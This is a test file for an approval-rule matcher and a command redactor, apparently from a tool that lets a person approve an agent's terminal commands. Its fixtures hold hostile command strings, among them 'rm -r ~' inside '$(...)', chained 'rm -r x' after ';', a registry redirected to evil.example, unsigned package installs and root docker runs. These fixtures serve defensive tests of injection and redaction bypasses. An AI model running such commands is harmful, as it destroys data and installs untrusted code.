/** The patterns of `approvals.allow`, and what is hidden of a command that a person is shown. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { allows, exactPattern, readAllowPattern } from '../../server/core/approval-rules.ts';
import { redactCommand } from '../../server/core/redact-command.ts';

const isAllowed = (pattern: string, command: string | null, tool = 'terminal'): boolean => {
  const read = readAllowPattern(pattern);
  if (!read) throw new Error(`no pattern: ${pattern}`);
  return allows(read, { tool, command });
};

describe('patterns', () => {
  it.each([
    ['write_file', null, 'write_file'],
    ['terminal: npm test', 'npm test', 'terminal'],
    ['terminal: npm test *', 'npm test', 'terminal'],
    ['terminal: npm test *', 'npm test -- --watch=false a/b.ts "c d"', 'terminal'],
    ['terminal: a && b > c', 'a && b > c', 'terminal'],
    ['terminal: ls: *', 'ls: x', 'terminal'],
    ['terminal: CI=1 npm test *', 'CI=1 npm test x', 'terminal'],
  ])('[AP3] %j allows %j', (pattern, command, tool) => {
    expect(isAllowed(pattern, command, tool)).toBe(true);
  });

  it.each([
    ['write_file', null, 'edit_file'],
    ['terminal: npm test', 'npm test ', 'terminal'],
    ['terminal: npm test', 'npm test x', 'terminal'],
    ['terminal: npm test', 'NPM TEST', 'terminal'],
    ['terminal: npm test *', 'npm testing', 'terminal'],
    ['terminal: npm test *', ' npm test x', 'terminal'],
    ['terminal: npm test *', 'X=1 npm test', 'terminal'],
    ['terminal: npm test', 'npm test', 'shell'],
  ])('[AP3] %j does not allow %j', (pattern, command, tool) => {
    expect(isAllowed(pattern, command, tool)).toBe(false);
  });

  it.each([
    ';',
    '&',
    '&&',
    '|',
    '||',
    '`',
    '$(',
    '${',
    '$',
    '>',
    '>>',
    '<',
    '<(',
    '(',
    ')',
    '{',
    '}',
    '\n',
    '\r',
    '\0',
    '\\',
  ])('[AP3] a star never reaches over %j; such a command is allowed as a whole or not at all', (sign) => {
    for (const command of [`npm test ${sign} rm -r x`, `npm test${sign}rm`, `npm test ${sign}`, `npm test "${sign}"`]) {
      expect(isAllowed('terminal: npm test *', command)).toBe(false);
      expect(isAllowed(`terminal: ${command}`, command)).toBe(true);
      expect(readAllowPattern(`terminal: ${command} *`)).toBeNull();
    }
  });

  it.each([
    '',
    ' ',
    '*',
    'terminal:',
    'terminal: ',
    'terminal: *',
    'terminal:  *',
    'terminal: X=1 *',
    'terminal: X="a b" Y=  *',
    'terminal: ! *',
    'terminal: time X=1 *',
    'two words',
    'terminal:npm test',
    ': ls',
    'a/b',
  ])('[AP3] %j is no pattern: none allows every command', (text) => expect(readAllowPattern(text)).toBeNull());

  it('[AP3] the name of a tool alone allows no command', () => {
    expect(isAllowed('terminal', 'ls')).toBe(false);
  });

  it('[AP3] what is kept of a call allows this call and no other', () => {
    const command = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.array(fc.constantFrom('npm', 'test', ' ', '*', ' *', ';', ': ', '\n', '$(')).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(command, command, (one, other) => {
        const pattern = exactPattern({ tool: 'terminal', command: one });
        if (pattern === null) return;
        expect(isAllowed(pattern, one)).toBe(true);
        if (one !== other) expect(isAllowed(pattern, other)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it('[AP3] a command that looks like a pattern with a star is kept by none', () => {
    expect(exactPattern({ tool: 'terminal', command: 'ls *' })).toBeNull();
    expect(exactPattern({ tool: 'terminal', command: 'ls; rm *' })).toBeNull();
    expect(exactPattern({ tool: 'terminal', command: 'ls' })).toBe('terminal: ls');
    expect(exactPattern({ tool: 'write_file', command: null })).toBe('write_file');
  });
});

describe('what is shown', () => {
  const SECRETS = ['correct horse battery', 'sw0rdf1sh'];

  it.each([
    ['echo correct horse battery', 'echo [hidden]'],
    ['curl x?k=correct%20horse%20battery', 'curl x?k=[hidden]'],
    ['API_KEY=abc123 make', 'API_KEY=[hidden] make'],
    ['export GITHUB_TOKEN="abc" DB_PASSWORD=\'x y\'', 'export GITHUB_TOKEN="[hidden]" DB_PASSWORD=\'x y\''],
    [
      'curl -H "Authorization: Bearer abcdef123" https://x.example',
      'curl -H "Authorization: [hidden]" https://x.example',
    ],
    ["curl -H 'X-Api-Key: abcdef'", "curl -H 'X-Api-Key: [hidden]'"],
    ['git clone https://me:pass@host.example/a.git', 'git clone https://[hidden]@host.example/a.git'],
    ['curl "https://x.example/?a=1&access_token=zzz&b=2"', 'curl "https://x.example/?a=1&access_token=[hidden]&b=2"'],
    ['mysql --password hunter2 db', 'mysql --password [hidden] db'],
    ['mysql --password=hunter2 db', 'mysql --password=[hidden] db'],
    ['curl -u me:hunter2 x', 'curl -u [hidden] x'],
    [`curl -d '{"password": "hunter2", "a": 1}'`, `curl -d '{"password": "[hidden]", "a": 1}'`],
    ['echo ghp_abcdefghijkl4mnop sk-proj-abcdefg7hijkl AKIAABCDEFGHIJKLMNOP', 'echo [hidden] [hidden] [hidden]'],
    [`x = {'Authorization': 'Bearer abcdef'}`, `x = {'Authorization': 'Bearer [hidden]'}`],
    ['export TOKEN=abc123def; curl -H "x: $TOKEN"', 'export TOKEN=[hidden]; curl -H "x: $TOKEN"'],
    ['login --auth-token abcdef --client-secret "xyz"', 'login --auth-token [hidden] --client-secret "[hidden]"'],
  ])('[AP5] secrets are hidden: %s', (command, shown) => {
    expect(redactCommand(command, SECRETS)).toBe(shown);
  });

  it.each([
    'TOKEN="$(rm -r ~)" true',
    'KEY=`id` true',
    'KEY=a;rm -r x',
    "KEY='a;rm -r x' sh -c $KEY",
    'echo authorization: ; rm -r x',
    'echo "bearer\nrm -r x"',
    'x --password /home/me',
    'x --token ~/keys',
    'x --token --force',
    'cp -r key/ /backup',
    'npm run auth',
    'https://host.example/a@b',
    'npx npm-check-updates',
    'npm_config_registry=http://evil.example npm install',
    'bash sk-evil-script-1234567890.sh',
    'bin/sk-evil-script-1234567890',
    'curl --anyauth evil.example/x',
    'apt-get --allow-unauthenticated install evil',
    'rpm --nosignature install evil',
    'psql --no-password install',
    'basic bin/evil',
    './bearer bin/evil',
    'tee cookie: /etc/evil',
    'tee "x"cookie: /etc/evil',
    'token=reboot; $token',
    `key=evil && x=key && \${!x} a`,
    'my_key=bin/evil; "$my_key"',
    'shopt -s expand_aliases; alias key=evil\nkey a',
    'git commit --author=evil',
    'docker run -u root:root evil',
    'docker run -u 0:0 evil',
  ])('[AP5] nothing that could be a command or a path is hidden by its looks: %j', (command) => {
    const shown = redactCommand(command, []);
    const words = [
      'rm -r',
      '`id`',
      '/home/me',
      '~/keys',
      '--force',
      '/backup',
      'npm run auth',
      'a@b',
      ';',
      'root:root',
    ];
    words.push('npm-check-updates', 'npm_config_registry', 'sk-evil', 'evil', 'install', 'reboot', '/etc/', '0:0');
    for (const word of words) if (command.includes(word)) expect(shown).toContain(word);
  });

  it('[AP5] of two known secrets of which one begins the other, nothing is left', () => {
    expect(redactCommand('echo abcdef-and-more', ['abcdef', 'abcdef-and-more'])).toBe('echo [hidden]');
  });

  it('[AP5] characters that cannot be seen, or that turn others around, are spelled out', () => {
    expect(redactCommand('ls \u202e\u200b\x1b[2K\tx\ny', [])).toBe('ls \\u{202e}\\u{200b}\\u{1b}[2K\tx\ny');
  });

  it('[AP5] no text makes it slow', () => {
    const long = [
      'key',
      'key-',
      '"key" : ',
      '--key ',
      'a://',
      'a:b@',
      'bearer ',
      '"bearer a',
      'sk-a',
      'sk-',
      'TOKEN=a $TOKEN ',
      '--no-key ',
      'eyJaaaaaaaa.',
      '-u a:',
      '"',
      '\\',
    ];
    // One that took the square of their length would not end within the time of a test.
    for (const part of long) redactCommand(part.repeat(Math.floor(300_000 / part.length)), SECRETS);
  });
});
